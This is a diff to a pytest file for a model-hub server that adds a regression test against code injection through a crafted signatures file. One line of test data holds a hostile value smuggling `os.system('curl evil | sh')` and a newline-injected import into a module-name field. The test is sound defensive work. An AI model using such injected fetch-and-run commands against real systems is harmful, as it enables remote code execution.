@@ -13,7 +13,14 @@ import pytest
 import requests
 from tests._helpers import hub_server
 from tests._helpers.archives import MODEL_FILES, make_tar_gz, read_tree
-from tests._helpers.hub_server import free_port, serve_hub, write_model_doc, write_publisher
+from tests._helpers.hub_server import (
+    free_port,
+    serve_hub,
+    signature_summary_json,
+    write_model_doc,
+    write_publisher,
+    write_signatures,
+)
 
 import tfhub as hub
 
@@ -21,10 +28,11 @@ TOKEN = "page-token-for-tests"
 
 
 def _hub_with_a_model(root: Path) -> Path:
+    """Writes lab/half-plus-two/1 with its archive into the hub `root`; returns its doc."""
     write_publisher(root, "lab", "Lab")
     doc = write_model_doc(root, "lab/half-plus-two/1", description="Halves and adds two.")
     make_tar_gz(doc.with_name("1.tar.gz"))
-    return root
+    return doc
 
 
 def _token_host_of_page(url: str) -> str:
@@ -44,7 +52,8 @@ def _resolves_with_the_snippets_entry(page_url: str, model_url: str, monkeypatch
 def test_the_token_snippet_names_the_entry_the_client_matches_below_a_path(tmp_path, monkeypatch):
     """With --base-url http://127.0.0.1:PORT/hub the snippet said TFHUB_TOKEN_HOST=
     127.0.0.1:PORT/hub, an entry the client never matches (401)."""
-    root = _hub_with_a_model(tmp_path / "root")
+    root = tmp_path / "root"
+    _hub_with_a_model(root)
     (tmp_path / "tokens").write_text(f"{TOKEN}\n")
     port = free_port()
     options = ["--token-file", str(tmp_path / "tokens"), "--base-url"]
@@ -66,7 +75,8 @@ def _has_ipv6_loopback() -> bool:
 @pytest.mark.skipif(not _has_ipv6_loopback(), reason="this machine cannot listen on ::1")
 def test_the_token_snippet_names_the_entry_the_client_matches_on_ipv6(tmp_path, monkeypatch):
     """With the Host [::1]:PORT the snippet said [::1]:PORT; the client matches ::1:PORT."""
-    root = _hub_with_a_model(tmp_path / "root")
+    root = tmp_path / "root"
+    _hub_with_a_model(root)
     (tmp_path / "tokens").write_text(f"{TOKEN}\n")
     # The helper waits for /healthz at server.url(): point it at the IPv6 loopback.
     monkeypatch.setattr(
@@ -116,3 +126,23 @@ def test_a_doc_longer_than_the_renderer_takes_is_shown_as_plain_text(tmp_path):
     assert page.status_code == 200
     assert "This documentation is 70,0" in page.text and "this hub renders" in page.text
     assert "&lt;div&gt;" * 100 in page.text and "<div><div>" not in page.text
+
+
+def test_the_load_snippet_imports_only_module_names(tmp_path):
+    """A crafted `<version>.signatures.json` put `import os; os.system(...)` into the snippet."""
+    doc = _hub_with_a_model(tmp_path)
+    summary = signature_summary_json()
+    summary["op_libraries"] = ["os; os.system('curl evil | sh')", "x\nimport shutil", "scann"]
+    write_signatures(doc, summary)
+    with serve_hub(tmp_path, tmp_path / "serve.log") as server:
+        page = requests.get(server.url("lab/half-plus-two/1"), timeout=10)
+        api = requests.get(server.url("api/models/lab/half-plus-two"), timeout=10).json()
+    snippet = re.search(r'<pre id="snippet-load"><code>(.*?)</code>', page.text, re.S)
+    assert snippet is not None, page.text
+    imports = [line for line in snippet[1].splitlines() if line.startswith("import ")]
+    assert imports == [
+        "import tensorflow_hub as hub  # or: import tfhub as hub",
+        "import scann  # the model uses its ops (tfhub imports it if installed)",
+    ]
+    assert "os.system" not in page.text and "shutil" not in page.text
+    assert api["versions"][0]["signatures"]["op_libraries"] == ["scann"]
